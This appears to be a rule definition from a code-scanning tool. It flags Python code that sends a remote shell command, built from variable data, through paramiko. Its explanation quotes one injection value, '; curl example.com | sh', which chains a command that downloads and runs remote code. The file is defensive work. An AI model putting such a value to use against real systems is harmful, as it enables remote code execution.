import { anyOf } from '../../matching/check.ts';
import { flows, fromAnybody } from '../../matching/flows.ts';
import { sinks } from '../../matching/sinks.ts';
import type { RegistryEntry } from '../registry-entry.ts';

export const entry: RegistryEntry = {
  title: 'Command for another machine put together with data',
  cwe: [78],
  severity: 'high',
  precision: 'medium',
  languages: ['python'],
  message: 'The shell of another machine runs this text, and a part of it is not constant.',
  why: 'A value such as `; curl example.com | sh` begins another command there, with the rights of the account that was logged in to.',
  hint: 'Quote each value with shlex.quote, or check it against a list of what is allowed.',
  references: [
    'https://docs.paramiko.org/en/stable/api/client.html#paramiko.client.SSHClient.exec_command',
    'https://docs.python.org/3/library/shlex.html#shlex.quote',
  ],
  match: sinks(
    'remote-shell',
    ['python'],
    anyOf(
      flows({ use: 'shell', from: fromAnybody, joined: true }),
      flows({ use: 'shell', from: ['remote'] }),
    ),
  ),
};
